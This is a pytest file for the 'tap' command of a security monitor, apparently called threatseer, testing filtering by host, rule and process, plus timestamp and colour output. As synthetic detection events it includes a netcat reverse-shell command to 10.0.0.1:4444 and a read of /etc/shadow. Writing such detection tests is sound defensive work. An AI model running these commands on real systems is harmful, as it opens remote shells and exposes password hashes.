"""`threatseer tap` against a real hub: filters by host, rule and process name, the time on
text lines, and colour only on a terminal (a real pseudo-terminal) unless NO_COLOR."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any

import zmq
from hub_helpers import (
    HubProcess,
    Sender,
    Subscriber,
    endpoint,
    exec_event,
    open_event,
    wait_connected,
    write_yaml,
)

from threatseer.hub.event_filter import EventFilter

ROOT = Path(__file__).resolve().parents[2]
ANSI = re.compile(r"\x1b\[[0-9;]*m")
LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z +-?\d+ \S+ ")


def test_the_filter_alone() -> None:
    ev = {"host.name": "web-3", "process.executable": "/usr/bin/nc", "event.risk_score": 40,
          "threatseer.indicators": [{"rule": "reverse_shell_netcat_exec"}, {"rule": "x"}]}
    assert EventFilter().matches(ev) and EventFilter().empty
    assert EventFilter(hosts=("web-*",)).matches(ev)
    assert not EventFilter(hosts=("db-*",)).matches(ev)
    assert EventFilter(hosts=("db-*", "web-3")).matches(ev)  # any of one criterion
    assert EventFilter(processes=("nc",)).matches(ev)  # the executable's basename
    assert not EventFilter(processes=("ncat",)).matches({**ev, "process.name": "nc"})
    assert EventFilter(rules=("reverse_shell_*",)).matches(ev)
    assert not EventFilter(rules=("shadow*",)).matches(ev)
    assert not EventFilter(rules=("x",)).matches({**ev, "threatseer.indicators": []})
    assert not EventFilter(hosts=("web-*",), rules=("shadow*",)).matches(ev)  # all criteria
    assert not EventFilter(min_score=41).matches(ev)
    assert EventFilter(hosts=("web-*",), min_score=40).matches(ev)
    assert not EventFilter(hosts=("web-*",)).matches({"agent.id": "s-1"})


class Tap:
    """A `threatseer tap` process whose stdout is a pipe or (tty=True) a pseudo-terminal."""

    def __init__(self, cmd: list[str], *args: str, tty: bool = False,
                 env: dict[str, str] | None = None) -> None:
        self.master = None
        self.stderr = tempfile.TemporaryFile()  # noqa: SIM115 (closed in stop)
        if tty:
            self.master, slave = pty.openpty()
            out: Any = slave
        else:
            out = subprocess.PIPE
        self.proc = subprocess.Popen([*cmd, "tap", *args], stdout=out, stderr=self.stderr,
                                     env={**os.environ, **(env or {})})
        if tty:
            os.close(slave)
        self.buf = b""

    def subscribed(self) -> bool:
        """Whether the tap has said it subscribed (on stderr)."""
        self.stderr.seek(0)
        return b"tap: subscribed" in self.stderr.read()

    def read(self, quiet_s: float = 1.0) -> list[str]:
        fd = self.master if self.master is not None else self.proc.stdout.fileno()
        deadline = time.monotonic() + 20
        last = time.monotonic()
        while time.monotonic() < deadline and time.monotonic() - last < quiet_s:
            ready, _, _ = select.select([fd], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                self.buf += chunk
                last = time.monotonic()
        return self.buf.decode(errors="replace").replace("\r\n", "\n").splitlines()

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        if self.master is not None:
            os.close(self.master)
        self.stderr.close()


def test_tap_filters_time_and_colour(tmp_path: Path, threatseer_cmd: list[str]) -> None:
    pub = endpoint()
    cfg = {"ingest": {"endpoint": endpoint()}, "publish": {"endpoint": pub},
           "metrics": {"listen": ""}, "actions": {"toss_below": -1000, "alert_at": 100},
           "bundle": str(ROOT / "rules" / "default"), "admin": {"allow_unsigned": True},
           "state_dir": str(tmp_path / "state"),
           "plaintext": True, "profiles": {"enabled": False}}
    hub = HubProcess(threatseer_cmd, write_yaml(tmp_path / "hub.yaml", cfg))
    base = ["--endpoint", pub]
    taps = {
        "host": Tap(threatseer_cmd, *base, "--host", "db-*", "--json"),
        "rule": Tap(threatseer_cmd, *base, "--rule", "shadow_*", "--json"),
        "process": Tap(threatseer_cmd, *base, "--process", "nc", "--process", "ls", "--json"),
        "both": Tap(threatseer_cmd, *base, "--host", "web1", "--process", "ls", "--json"),
        "pipe": Tap(threatseer_cmd, *base, "--host", "db-*"),
        "always": Tap(threatseer_cmd, *base, "--host", "db-*", "--color", "always"),
        "tty": Tap(threatseer_cmd, *base, "--host", "db-*", tty=True),
        "no_color": Tap(threatseer_cmd, *base, "--host", "db-*", tty=True,
                        env={"NO_COLOR": "1"}),
    }
    ctx = zmq.Context()
    try:
        sender = Sender(ctx, cfg["ingest"]["endpoint"], "tap-filters")
        sub = Subscriber(ctx, pub)
        wait_connected(sender, sub)
        # the tap processes subscribe too: each says so once connected (eight interpreters
        # starting take seconds on a loaded machine), then the subscription reaches the hub
        deadline = time.monotonic() + 60
        while not all(tap.subscribed() for tap in taps.values()):
            assert time.monotonic() < deadline, "a tap did not subscribe within 60 s"
            time.sleep(0.1)
        time.sleep(0.5)
        sender.send([
            exec_event("/usr/bin/ls", ["ls", "-l"]),  # web1, nothing fires
            exec_event("/usr/bin/nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"],
                       **{"host.name": "db-1"}),  # db-1: risky nc + reverse shell rules
            open_event("/etc/shadow", ["read"], **{"host.name": "db-2",
                                                   "process.name": "cat"}),
            exec_event("/usr/bin/ls", ["ls"], **{"host.name": "db-1"}),
        ])
        out = {name: tap.read() for name, tap in taps.items()}
    finally:
        for tap in taps.values():
            tap.stop()
        sub.close()
        sender.close()
        ctx.destroy(linger=0)
        rc, _, err = hub.stop()
    assert rc == 0, err

    def who(name: str) -> list[tuple[str, str]]:
        docs = [json.loads(line) for line in out[name] if line.startswith("{")]
        # sorted: the hub publishes one message per topic, so topics may come in any order
        return sorted((d["host"]["name"], d["process"].get("name", "")) for d in docs)

    assert who("host") == [("db-1", "ls"), ("db-1", "nc"), ("db-2", "cat")]
    assert who("rule") == [("db-2", "cat")]
    assert who("process") == [("db-1", "ls"), ("db-1", "nc"), ("web1", "ls")]
    assert who("both") == [("web1", "ls")]
    # Text lines start with the event's time; colour only where asked or on a terminal.
    assert len(out["pipe"]) == 3 and all(LINE.match(line) for line in out["pipe"]), out["pipe"]
    assert all(line.startswith("2026-11-28T02:00:00.000Z ") for line in out["pipe"])
    assert not any(ANSI.search(line) for line in out["pipe"])
    assert all(ANSI.search(line) for line in out["always"])
    nc = next(line for line in out["always"] if "/usr/bin/nc" in line)
    assert "\x1b[31" in nc  # the nc alert in red
    tty = [line for line in out["tty"] if "db-" in line]
    assert len(tty) == 3 and all(ANSI.search(line) for line in tty), out["tty"]
    assert sorted(ANSI.sub("", line) for line in tty) == sorted(out["pipe"])
    plain = [line for line in out["no_color"] if "db-" in line]
    assert sorted(plain) == sorted(out["pipe"])
